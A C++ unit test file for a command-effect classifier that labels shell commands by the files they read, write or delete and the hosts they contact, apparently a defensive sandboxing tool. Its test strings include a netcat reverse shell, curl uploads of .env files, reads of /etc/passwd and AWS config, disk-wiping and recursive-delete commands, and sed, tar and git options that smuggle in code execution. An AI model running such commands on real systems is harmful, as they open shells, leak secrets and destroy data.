#include <gtest/gtest.h>

#include <set>

#include "effects/program_table.h"
#include "unit/effects/effect_text.h"

namespace sallyport::effects {

namespace {

struct Case {
  std::string line;
  std::string effects;
};

void expect_all(const std::vector<Case>& cases) {
  for (const Case& one : cases) EXPECT_EQ(effects_text(one.line), one.effects) << one.line;
}

}  // namespace

// RU-53
TEST(ProgramEffectsTest, ReadersReadTheirOperands) {
  expect_all({
      {"grep -rn x src", "fs.read src recursive"},
      {"grep x a b", "fs.read a; fs.read b"},
      {"grep -e x a", "fs.read a"},
      {"rg x", "fs.read . recursive"},
      {"rg --pre cat x", "process.exec opaque; fs.read . recursive [interpreter]"},
      {"rg x src", "fs.read src recursive"},
      {"sort -o out a", "fs.write out; fs.read a"},
      {"sort --compress-program=x a", "process.exec opaque; fs.read a [interpreter]"},
      {"uniq a b", "fs.read a; fs.write b"},
      {"tree -o x", "fs.write x; fs.read . recursive"},
      {"ls", "fs.read ."},
      {"ls -la a", "fs.read a"},
      {"du -sh", "fs.read . recursive"},
      {"diff a b", "fs.read a; fs.read b"},
      {"head -5 a", "fs.read a"},
      {"tail -n 5 a", "fs.read a"},
      {"cut -d, -f1 a", "fs.read a"},
      {"jq .x a.json", "fs.read a.json"},
      {"wc -c a", "fs.read a"},
      {"cat -", "none"},
      {"cat -n a", "fs.read a"},
      {"ls -R /", "fs.read / recursive"},
      {"find a b -name x", "fs.read a recursive; fs.read b recursive"},
      {"find . -delete", "fs.read . recursive; fs.delete . recursive"},
      {"find . -name x -delete", "fs.read . recursive; fs.delete . below"},
      {"find . -fprint out", "fs.read . recursive; fs.write out"},
      {"find . -exec sh -c \"rm {}\" \\;", "fs.read . recursive; process.exec opaque [code]"},
      {"find . -execdir cat {} +", "fs.read . recursive; fs.read /w below"},
      {"find $X -name y", "fs.read ? recursive; process.exec opaque [expansion]"},
      {"echo a", "none"},
      {"true", "none"},
  });
}

// RU-53
TEST(ProgramEffectsTest, WritersWriteAndDelete) {
  expect_all({
      {"rm -r $F /srv", "fs.delete ? recursive; fs.delete /srv recursive"},
      {"rm --rec x", "fs.delete x recursive"},
      {"rmdir a", "fs.delete a"},
      {"cmake -E rm -rf ../a b", "fs.delete ../a recursive; fs.delete b recursive"},
      {"cmake -E remove_directory a", "fs.delete a recursive"},
      {"cmake -E copy a b", "fs.read a; fs.write b"},
      {"cmake -E env git push", "git.push . host=?"},
      {"cmake -E capabilities", "process.exec"},
      {"cmake --build x", "process.exec"},
      {"date", "none"},
      {"date -f a", "fs.read a; none"},
      {"less -o a b", "fs.write a; fs.read b"},
      {"git hash-object -w a", "fs.read a; git.write ."},
      {"mv a b c/", "fs.delete a; fs.delete b; fs.write c/; fs.write c/a; fs.write c/b"},
      {"cp -r a b", "fs.read a recursive; fs.write b recursive"},
      {"cp -t d a b", "fs.read a; fs.read b; fs.write d; fs.write d/a; fs.write d/b"},
      {"install -d a b", "fs.write a; fs.write b"},
      {"ln -s a b", "fs.write b"},
      {"touch a", "fs.write a"},
      {"mkdir -p a/b", "fs.write a/b"},
      {"tee a b", "fs.write a; fs.write b"},
      {"truncate -s 0 a", "fs.write a"},
      {"chmod -R 755 a", "fs.write a recursive"},
      {"chown u:g a", "fs.write a"},
      {"dd if=a of=b", "fs.read a; fs.write b"},
      {"mkfs.ext4 /dev/sda1", "fs.write /dev/sda1"},
      {"mktemp -d", "fs.write /tmp below"},
      {"zip a.zip b", "fs.write a.zip; fs.read b"},
      {"gzip a", "fs.delete a; fs.read a; fs.write a.gz"},
      {"shred -u a", "fs.delete a"},
  });
}

// RU-53
TEST(ProgramEffectsTest, PackersWriteTheirOwnNames) {
  expect_all({
      {"xz a", "fs.delete a; fs.read a; fs.write a.xz"},
      {"bzip2 -k a", "fs.read a; fs.write a.bz2"},
      {"gzip -S .x a", "fs.delete a; fs.read a; fs.write a.x"},
      {"xz --format=lzma a", "fs.delete a; fs.read a; fs.write ?"},
      {"gunzip .git/config.gz",
       "fs.delete .git/config.gz; fs.read .git/config.gz; fs.write .git/config"},
      {"gunzip a.tgz", "fs.delete a.tgz; fs.read a.tgz; fs.write a.tar"},
      {"gunzip -N a.gz", "fs.delete a.gz; fs.read a.gz; fs.write ?"},
      {"gunzip a", "fs.delete a; fs.read a; fs.write ?"},
      {"gunzip .gz", "fs.delete .gz; fs.read .gz; fs.write ?"},
      {"gunzip -c a.gz", "fs.read a.gz"},
      {"gzip --decompress a.gz", "fs.delete a.gz; fs.read a.gz; fs.write a"},
      {"gzip -r .", "fs.delete . recursive; fs.read . recursive; fs.write . recursive"},
      {"gunzip -r a.gz",
       "fs.delete a.gz recursive; fs.read a.gz recursive; fs.write a.gz recursive; fs.write a "
       "recursive"},
      {"xz -d a.xz", "fs.delete a.xz; fs.read a.xz; fs.write a"},
      {"xz -dz a.xz", "fs.delete a.xz; fs.read a.xz; fs.write ?"},
      {"unxz -S .x a.x", "fs.delete a.x; fs.read a.x; fs.write a"},
      {"unxz -S .x a.xz", "fs.delete a.xz; fs.read a.xz; fs.write ?"},
      {"bunzip2 a.bz2", "fs.delete a.bz2; fs.read a.bz2; fs.write a"},
      {"bunzip2 $X", "fs.delete ?; fs.read ?; fs.write ?; process.exec opaque [expansion]"},
      {"zstd -d a.zst", "fs.delete a.zst; fs.read a.zst; fs.write a"},
      {"zstd -d -o b a.zst", "fs.write b; fs.delete a.zst; fs.read a.zst"},
      {"zstd -d --output-dir-flat .git x/config.zst",
       "fs.write .git; fs.delete x/config.zst; fs.read x/config.zst; fs.write .git/config"},
  });
}

// RU-53
TEST(ProgramEffectsTest, FilesThatATargetFolderReceivesAreWritten) {
  expect_all({
      {"cp evil/config .git/", "fs.read evil/config; fs.write .git/; fs.write .git/config"},
      {"cp -T evil/config .git/", "fs.read evil/config; fs.write .git/"},
      {"cp --parents a/b d/", "fs.read a/b; fs.write d/; fs.write d/a/b"},
      {"cp a .", "fs.read a; fs.write .; fs.write ./a"},
      {"cp a b", "fs.read a; fs.write b"},
      {"mkdir d && cp a d", "fs.write d; fs.read a; fs.write d; fs.write d/a"},
      {"install -m 755 config .git/", "fs.read config; fs.write .git/; fs.write .git/config"},
      {"ln -f config .git/", "fs.write .git/; fs.write .git/config"},
      {"cp \"$X\" .git/", "fs.read ?; fs.write .git/; fs.write .git/ below"},
      {"rsync config .git/",
       "fs.read config recursive; fs.write .git/ recursive; fs.write .git/config"},
      {"rsync -aR a/config d/",
       "fs.read a/config recursive; fs.write d/ recursive; fs.write d/a/config recursive"},
      {"cp -r x/.git d/",
       "fs.read x/.git recursive; fs.write d/ recursive; fs.write d/.git recursive"},
      {"scp -r h.example:x/.git d/",
       "network.request host=h.example; fs.write d/ recursive; fs.write d/.git recursive"},
      {"scp h.example:config .git/",
       "network.request host=h.example; fs.write .git/; fs.write .git/config"},
      {"scp 'h.example:*' .git/",
       "network.request host=h.example; fs.write .git/; fs.write .git/ below"},
      {"rsync -a --backup-dir=/out --partial-dir=p --temp-dir=t a/ b/",
       "fs.write /out; fs.write p; fs.write t; fs.read a/ recursive; fs.write b/ recursive"},
  });
  EXPECT_EQ(effects_text("mv config .git", {"/w/.git/HEAD"}),
            "fs.delete config; fs.write .git; fs.write .git/config");
}

// `wget -r` once wrote names that no rule about one of them saw: the server chooses them.
// RU-40, RU-53
TEST(ProgramEffectsTest, NamesThatAServerOrAListChoosesAreBelowTheFolder) {
  const std::string here = "network.request host=localhost; ";
  expect_all({
      {"wget -r http://localhost/x",
       here + "fs.write . recursive; fs.write . below; fs.write localhost/x"},
      {"wget -m -P d http://localhost/x",
       here + "fs.write d recursive; fs.write d below; fs.write d/localhost/x"},
      {"wget --page-requisites http://localhost/x",
       here + "fs.write . recursive; fs.write . below; fs.write localhost/x"},
      {"wget --content-disposition http://localhost/x",
       here + "fs.write . recursive; fs.write . below; fs.write localhost/x"},
      {"wget -r -O all http://localhost/x", here + "fs.write all"},
  });
}

// RU-53
TEST(ProgramEffectsTest, FilesInListsAreRead) {
  expect_all({
      {"tar cf x.tar --add-file=.env", "fs.read .env; fs.write x.tar"},
      {"tar cf x.tar -T list", "fs.read list; fs.read ?; fs.write x.tar"},
      {"tar tf x.tar -T list", "fs.read list; fs.read x.tar"},
      {"zip x.zip -@", "fs.read ?; fs.write x.zip"},
  });
}

// RU-54
TEST(ProgramEffectsTest, ScriptsOfSedAndAwkAreReadOrOpaque) {
  expect_all({
      {"sed -n 1p a", "fs.read a"},
      {"sed -i s/a/b/ a", "fs.write a; fs.read a"},
      {"sed -e s/a/b/ -e 2d a", "fs.read a"},
      {"sed 's/a/b/e' a", "process.exec opaque; fs.read a [code]"},
      {"sed 's/a/b/w x' a", "process.exec opaque; fs.read a [code]"},
      {"sed 's/a/b/;e rm' a", "process.exec opaque; fs.read a [code]"},
      {"sed '1r /etc/x' a", "process.exec opaque; fs.read a [code]"},
      {"sed 's#a#b#gI;$d;/x/,/y/p;3q' a", "fs.read a"},
      {"sed 's/[/]/x/e' a", "process.exec opaque; fs.read a [code]"},
      {"sed -f x a", "fs.read x; process.exec opaque; fs.read a [code]"},
      {"awk '{print $1}' a", "fs.read a"},
      {"awk '{print > \"x\"}' a", "process.exec opaque; fs.read a [code]"},
      {"awk 'BEGIN{system(\"rm\")}'", "process.exec opaque [code]"},
      {"awk '{\"rm\" | getline}' a", "process.exec opaque; fs.read a [code]"},
      {"awk -f x a", "fs.read x; process.exec opaque; fs.read a [code]"},
      {"awk '$1 || $2' x=1 a", "fs.read a"},
  });
}

// RU-53
TEST(ProgramEffectsTest, ArchivesAndPatches) {
  expect_all({
      {"tar xf a.tgz -C d", "fs.read a.tgz; fs.write /w/d:. recursive"},
      {"tar czf a.tgz d", "fs.write a.tgz; fs.read d recursive"},
      {"tar tf a", "fs.read a"},
      {"tar -xf a --to-command=x",
       "process.exec opaque; fs.read a; fs.write . recursive [interpreter]"},
      {"tar xf a --checkpoint=1 --checkpoint-action=exec=sh",
       "process.exec opaque; fs.read a; fs.write . recursive [interpreter]"},
      {"tar -I x -xf a", "process.exec opaque; fs.read a; fs.write . recursive [interpreter]"},
      {"tar cf h:x a",
       "fs.write h:x; network.request host=h; process.exec opaque; fs.read a recursive "
       "[interpreter]"},
      {"unzip a.zip", "fs.read a.zip; fs.write . recursive"},
      {"unzip -l a.zip", "fs.read a.zip"},
      {"unzip a.zip -d /opt", "fs.read a.zip; fs.write /opt recursive"},
      {"rsync -a a/ b/", "fs.read a/ recursive; fs.write b/ recursive"},
      {"rsync --delete a b", "fs.read a recursive; fs.write b recursive; fs.delete b recursive"},
      {"rsync -e ssh a h.example:b",
       "process.exec opaque; fs.read a recursive; network.request host=h.example [interpreter]"},
      {"patch -p1 < x.diff", "fs.read x.diff; fs.write . recursive"},
      {"patch -i x.diff", "fs.read x.diff; fs.write . recursive"},
  });
}

// RU-53
TEST(ProgramEffectsTest, NetworkProgramsNameTheirHosts) {
  expect_all({
      {"curl -o x -T up -x http://proxy.example:3128 https://a.example/b",
       "network.request host=a.example; fs.write x; fs.read up; network.request "
       "host=proxy.example"},
      {"curl -d @f localhost:8080", "network.request host=localhost; fs.read f"},
      {"curl -F a=@f https://a.example", "network.request host=a.example; fs.read f"},
      {"curl -K c https://a.example",
       "network.request host=a.example; process.exec opaque [configuration]"},
      {"curl \"$U\"", "network.request host=?"},
      {"curl -sSLo x https://a.example", "network.request host=a.example; fs.write x"},
      {"wget -P d https://a.example/b.tgz", "network.request host=a.example; fs.write d/b.tgz"},
      {"wget -qO- https://a.example", "network.request host=a.example"},
      {"nc -e /bin/sh h.example 9",
       "network.request host=h.example; process.exec opaque [interpreter]"},
      {"scp a u@h.example:b", "fs.read a; network.request host=h.example"},
      {"scp -r h.example:b c", "network.request host=h.example; fs.write c recursive"},
      {"ssh -J j.example h.example ls",
       "network.request host=h.example; network.request host=j.example; process.exec opaque "
       "[remote]"},
      {"ping -c 1 h.example", "network.request host=h.example"},
      {"curl file:///etc/passwd", "fs.read /etc/passwd"},
      {"curl FILE://localhost/home/user/.aws/%63onfig", "fs.read /home/user/.aws/config"},
      {"curl 'file:///etc/{a,b}'", "fs.read ?"},
      {"curl file://elsewhere/etc/x", "fs.read ?"},
      {"git ls-remote file:///srv/r", "fs.read /srv/r"},
      {"sftp me@web1", "network.request host=web1; process.exec opaque [remote]"},
      {"curl \"https://a.example\\\\@b.example\"", "network.request host=?"},
  });
}

// RU-53
TEST(ProgramEffectsTest, CurlAndWgetNameTheirFiles) {
  const std::string here = "network.request host=localhost; ";
  expect_all({
      {"wget -x -nH http://localhost:8000/.git/config",
       here + "fs.write . recursive; fs.write .git/config"},
      {"wget -nH --force-directories -P d http://localhost/.git/config",
       here + "fs.write d recursive; fs.write d/.git/config"},
      {"wget -x http://localhost/a", here + "fs.write . recursive; fs.write localhost/a"},
      {"wget -x --cut-dirs=1 http://localhost/a/b",
       here + "fs.write . recursive; fs.write . below"},
      {"wget --default-page=config http://localhost/a/", here + "fs.write config"},
      {"curl 'http://localhost/{.git/config}' -o '#1'", here + "fs.write ?"},
      {"curl -o 'a#b' localhost", here + "fs.write a#b"},
      {"curl -O 'http://localhost/{a/b}'", here + "fs.write ?"},
      {"curl -F 'x=@a,.env' localhost", here + "fs.read a; fs.read .env"},
      {"curl -F 'x=@\".env\"' localhost", here + "fs.read .env"},
      {"curl -F 'x=@a;type=t;filename=\"b,c\",\"d;e\"' localhost", here + "fs.read a; fs.read d;e"},
      {"curl -F 'x=y;headers=@.env' localhost", here + "fs.read .env"},
      {"curl --form 'a@b=<c,d' localhost", here + "fs.read c,d"},
      {"curl -F 'mail=ada@h.example' localhost", "network.request host=localhost"},
      {"curl -T '{a,.env}' localhost", here + "fs.read ?"},
      {"curl --data-urlen x@.env localhost", here + "fs.read .env"},
      {"curl --data-urlencode q=a@b localhost", "network.request host=localhost"},
      {"curl --variable x@.env localhost", here + "fs.read .env"},
      {"curl --variable x=a@b localhost", "network.request host=localhost"},
      {"curl --proxy-header @f localhost", here + "fs.read f"},
      {"curl --expand-output '{{x}}' localhost",
       "network.request host=?; network.request host=localhost; process.exec opaque "
       "[configuration]"},
  });
}

// RU-53, RU-54
TEST(ProgramEffectsTest, GitBySubcommand) {
  expect_all({
      {"git status", "fs.read . recursive"},
      {"git log --oneline -5", "fs.read . recursive"},
      {"git diff --output=/etc/x", "fs.write /etc/x; fs.read . recursive"},
      {"git add . && git commit -m \"x\"", "git.write .; git.write ."},
      {"git reset --hard HEAD~1", "git.discard ."},
      {"git reset HEAD a", "git.write ."},
      {"git clean -fd", "git.discard ."},
      {"git clean -n", "fs.read . recursive"},
      {"git checkout -- a", "git.discard ."},
      {"git checkout main", "git.write ."},
      {"git checkout .", "git.discard ."},
      {"git checkout -b x", "git.write ."},
      {"git restore a", "git.discard ."},
      {"git restore --staged a", "git.write ."},
      {"git branch", "fs.read . recursive"},
      {"git branch -D x", "git.discard ."},
      {"git branch x", "git.write ."},
      {"git stash", "git.write ."},
      {"git stash drop", "git.discard ."},
      {"git stash list", "fs.read . recursive"},
      {"git fetch", "network.request host=?; git.write ."},
      {"git pull origin main", "network.request host=?; git.write ."},
      {"git clone git@github.com:a/b.git", "network.request host=github.com; fs.write b recursive"},
      {"git clone https://a.example/x.git d",
       "network.request host=a.example; fs.write d recursive"},
      {"git clone ext::x",
       "process.exec opaque; network.request host=ext; fs.write x recursive [interpreter]"},
      {"git push", "git.push . host=?"},
      {"git push https://u:p@h.example/x", "git.push . host=h.example"},
      {"git -C sub add -A", "git.write /w/sub:."},
      {"git -c core.pager=x log", "process.exec opaque; fs.read . recursive [configuration]"},
      {"git --exec-path=/x status", "process.exec opaque; fs.read . recursive [configuration]"},
      {"git rebase -x \"rm x\" HEAD", "process.exec opaque; git.write . [configuration]"},
      {"git lfs pull", "process.exec opaque [alias]"},
      {"git config user.name x", "fs.write .git/config; git.write ."},
      {"git config core.pager x",
       "fs.write .git/config; git.write .; process.exec opaque [configuration]"},
      {"git remote -v", "fs.read . recursive"},
      {"git diff --ext-diff", "process.exec opaque; fs.read . recursive [configuration]"},
      {"git submodule foreach \"rm x\"", "process.exec opaque; git.write . [code]"},
      {"git tag -l", "fs.read . recursive"},
      {"git worktree add ../x", "fs.write ../x recursive; git.write ."},
      {"git fetch --upload-pack=x",
       "process.exec opaque; network.request host=?; git.write . [configuration]"},
      {"git bisect run ./x", "process.exec opaque; git.write . [configuration]"},
      {"git --version", "none"},
  });
}

// RU-53, RU-54
TEST(ProgramEffectsTest, GitWritesWhereItsOptionsSay) {
  expect_all({
      {"git clean -n --no-dry-run -f", "git.discard ."},
      {"git clean -n --no-dry -f", "git.discard ."},
      {"git clean -fdx", "git.discard ."},
      {"git clean -ndx", "fs.read . recursive"},
      {"git diagnose -o /home/user", "fs.write /home/user; git.write ."},
      {"git diagnose", "fs.write .; git.write ."},
      {"git branch -v newb", "git.write ."},
      {"git branch -a newb", "git.write ."},
      {"git branch -vv", "fs.read . recursive"},
      {"git branch -a", "fs.read . recursive"},
      {"git branch -r --contains HEAD", "fs.read . recursive"},
      {"git tag -a v1 -F msg", "fs.read msg; git.write ."},
      {"git tag", "fs.read . recursive"},
      {"git tag -n3", "fs.read . recursive"},
      {"git tag -v v1", "fs.read . recursive"},
      {"git merge-file /home/user/.bashrc base other",
       "fs.read /home/user/.bashrc; fs.write /home/user/.bashrc; fs.read base; fs.read other; "
       "git.write ."},
      {"git merge-file -p -L x a b c", "fs.read a; fs.read b; fs.read c; git.write ."},
      {"git pack-objects /home/user/x", "fs.write /home/user/x; git.write ."},
      {"git read-tree --index-output=/home/user/x HEAD", "fs.write /home/user/x; git.write ."},
      {"git apply --index p", "fs.read p; git.write ."},
      {"git maintenance register --config-file=/home/user/x", "fs.write /home/user/x; git.write ."},
      {"git maintenance register", "fs.write /home/user/.gitconfig; git.write ."},
      {"git maintenance run", "git.write ."},
      {"git maintenance start",
       "process.exec opaque; fs.write /home/user/.gitconfig; git.write . [configuration]"},
      {"git remote add -f x http://evil.example/",
       "network.request host=evil.example; git.write ."},
      {"git remote add x http://evil.example/", "git.write ."},
      {"git remote set-head origin -a", "network.request host=?; git.write ."},
      {"git cherry-pick -x abc", "git.write ."},
      {"git rebase --exe 'rm x' main", "process.exec opaque; git.write . [configuration]"},
      {"git rebase main", "git.write ."},
  });
}

// RU-53
TEST(ProgramEffectsTest, GitPrintsTheFilesThatItsOperandsName) {
  expect_all({
      {"git grep --no-index -h '' .env", "fs.read . recursive; fs.read .env recursive"},
      {"git grep -n .env", "fs.read . recursive"},
      {"git grep -n -e x -- ':(glob)**/.env'", "fs.read . recursive; fs.read **/.env recursive"},
      {"git grep -f list", "fs.read . recursive; fs.read list"},
      {"git show HEAD:.env", "fs.read . recursive; fs.read .env recursive"},
      {"git show :0:.env", "fs.read . recursive; fs.read .env recursive"},
      {"git cat-file -p HEAD:a/.env", "fs.read . recursive; fs.read a/.env recursive"},
      {"git blame -n -e -C .env", "fs.read . recursive; fs.read .env recursive"},
      {"git diff HEAD -- .env",
       "fs.read . recursive; fs.read HEAD recursive; fs.read .env recursive"},
      {"git log -p -- :/.env", "fs.read . recursive; fs.read .env recursive"},
      {"git log -L1,5:.env", "fs.read . recursive; fs.read .env"},
      {"git log -n 5 --author ada", "fs.read . recursive"},
      {"git diff -U .env", "fs.read . recursive; fs.read .env recursive"},
      {"git diff -- . ':!package-lock.json'",
       "fs.read . recursive; fs.read :!package-lock.json recursive"},
  });
}

// RU-53
TEST(ProgramEffectsTest, PackageManagersBySubcommand) {
  expect_all({
      {"npm install", "package.install"},
      {"npm ci", "package.install"},
      {"npm run build", "process.exec"},
      {"npm test", "process.exec"},
      {"npm ls", "none"},
      {"npm publish", "package.publish"},
      {"npm --prefix x install", "package.install"},
      // Spellings and prefixes that npm accepts. A prefix of a harmless word does not count.
      {"npm isntall x", "package.install"},
      {"npm distTag add x y", "package.publish"},
      {"npm publ", "package.publish"},
      {"npm unpub x", "package.publish"},
      {"npm b", "process.exec"},
      {"npm who", "process.exec"},
      {"yarn", "package.install"},
      {"pip install x", "package.install"},
      {"pip3 list", "none"},
      {"python -m pip install x", "process.exec"},
      {"uv pip install x", "package.install"},
      {"uv pip list", "none"},
      {"uv run x", "process.exec"},
      {"cargo build", "process.exec"},
      {"cargo publish", "package.publish"},
      {"go mod tidy", "package.install"},
      {"go test ./...", "process.exec"},
      {"npx x", "package.install"},
      {"uvx x", "package.install"},
      {"apt-get install x", "package.install"},
      {"brew list", "none"},
      {"npm $X", "process.exec opaque [expansion]"},
      {"npm --version", "none"},
  });
}

// RU-53, RU-54
TEST(ProgramEffectsTest, InterpretersAndBuiltins) {
  expect_all({
      {"bash script.sh", "process.exec"},
      {"bash $X", "process.exec opaque [expansion]"},
      {"cat a | python3", "fs.read a; process.exec opaque [stdin]"},
      {"python3 -m http.server", "process.exec"},
      {"python3 x.py", "process.exec"},
      {"python3 --version", "none"},
      {"node -r ./x y.js", "process.exec opaque; process.exec [interpreter]"},
      {"perl -pi -e 's/a/b/' f", "process.exec opaque [code]"},
      {"node -e 1", "process.exec opaque [code]"},
      {"ruby -e 1", "process.exec opaque [code]"},
      {"source .venv/bin/activate", "process.exec"},
      {"alias ls=rm", "none; process.exec opaque [alias]"},
      {"alias", "none"},
      {"hash -r", "process.exec opaque [builtin]"},
      {"enable -f x y", "process.exec opaque [builtin]"},
      {"bind x", "process.exec opaque [builtin]"},
      {"complete x", "process.exec opaque [builtin]"},
      {"crontab -e", "process.exec opaque [builtin]"},
      {"at now", "process.exec opaque [builtin]"},
      {"batch", "process.exec opaque [builtin]"},
      {"shopt -s extglob", "none; process.exec opaque [builtin]"},
      {"set -euo pipefail", "none"},
      {"set -f", "none; process.exec opaque [builtin]"},
      {"trap - INT", "none"},
  });
}

// RU-31: the reader finds every row of the table, and every row prints as data.
TEST(ProgramEffectsTest, RowsHaveNamesOfTheirOwn) {
  std::set<std::string_view> seen;
  for (const Program& row : programs()) {
    EXPECT_FALSE(name_of(row.operands).empty());
    std::string_view rest = row.names;
    while (!rest.empty()) {
      const std::string_view name = rest.substr(0, rest.find(' '));
      rest.remove_prefix(std::min(rest.size(), name.size() + 1));
      if (name.empty()) continue;
      EXPECT_TRUE(seen.insert(name).second) << name << " has two rows";
      EXPECT_NE(find_program(name), nullptr) << name;
    }
    for (const Option& option : options_of(row.options)) EXPECT_FALSE(option.spellings.empty());
  }
  for (const Subcommand& row : subcommands())
    EXPECT_NE(find_program(row.program), nullptr) << row.program;
}

}  // namespace sallyport::effects
